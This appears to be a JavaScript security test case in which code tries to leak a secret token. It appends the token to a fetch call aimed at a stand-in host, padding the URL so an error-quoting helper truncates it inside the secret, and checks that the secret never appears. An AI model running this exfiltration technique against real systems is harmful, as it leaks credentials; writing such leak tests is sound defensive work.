// attack: have a helper quote an address that it cuts off within the secret
// grants: fetch:strict
// secret: TOKEN=Hunter2/Sesame+42/Hunter3/Sesame+43
// expect: never Hunter2
// The helper quotes at most 1,000 characters.
const said = [];
for (const length of [103, 980, 990]) {
  try {
    await fetch("https://h.example/?".padEnd(length, "x") + "&key=" + TOKEN + "\n!");
  } catch (error) {
    said.push(error.message);
  }
}
return said;
